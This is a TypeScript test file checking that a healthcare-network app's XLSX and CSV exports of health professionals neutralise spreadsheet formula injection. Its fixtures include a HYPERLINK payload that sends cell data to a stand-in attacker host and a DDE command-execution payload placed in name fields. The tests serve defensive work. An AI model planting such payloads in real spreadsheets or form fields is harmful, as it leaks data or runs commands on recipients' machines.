import type { NonMemberDto } from '@maillon/contracts';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { nonMembersCsv, nonMembersWorkbook } from './non-members-export.ts';

const ATTACK = '-1+HYPERLINK("http://evil.example/?"&A1,"Voir")';

const row = (overrides: Partial<NonMemberDto>): NonMemberDto => ({
  idNatPs: '810000000001',
  civility: null,
  lastName: 'Martin',
  firstName: 'Claire',
  professionKey: 'medecin',
  professionLabel: 'Médecin',
  specialtyLabel: null,
  structureName: null,
  address: null,
  postalCode: '04000',
  commune: 'Digne-les-Bains',
  unitCode: '04070',
  phone: '+33 4 92 00 00 00',
  email: null,
  otherCommunes: [],
  invitation: null,
  ...overrides,
});

describe('exports of the professionals to invite', () => {
  it('write formula-looking names as plain text in the XLSX, never as formulas', async () => {
    const buffer = await nonMembersWorkbook({
      cptsName: '=cmd|" /C calc"!A0',
      rows: [row({ lastName: ATTACK, firstName: '=HYPERLINK("x")', structureName: '@SUM(A1)' })],
      generatedOn: '2026-11-22',
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Professionnels à inviter') as ExcelJS.Worksheet;
    const cells = [sheet.getCell('A2'), sheet.getCell('B2'), sheet.getCell('F2'), sheet.getCell('J2')];
    expect(cells.map((c) => c.value)).toEqual([ATTACK, '=HYPERLINK("x")', '@SUM(A1)', '+33 4 92 00 00 00']);
    for (const cell of cells) expect(cell.type).toBe(ExcelJS.ValueType.String);
    const about = workbook.getWorksheet('À propos') as ExcelJS.Worksheet;
    expect(about.getCell('B1').type).toBe(ExcelJS.ValueType.String);
    let formulas = 0;
    for (const ws of workbook.worksheets) ws.eachRow((r) => r.eachCell((c) => (formulas += c.type === ExcelJS.ValueType.Formula ? 1 : 0)));
    expect(formulas).toBe(0);
  });

  it('defuse the same names in the CSV', () => {
    const csv = nonMembersCsv([row({ lastName: ATTACK })]);
    expect(csv.split('\r\n')[1]?.startsWith(`"'-1+HYPERLINK(`)).toBe(true);
    expect(csv).toContain("'+33 4 92 00 00 00");
  });
});
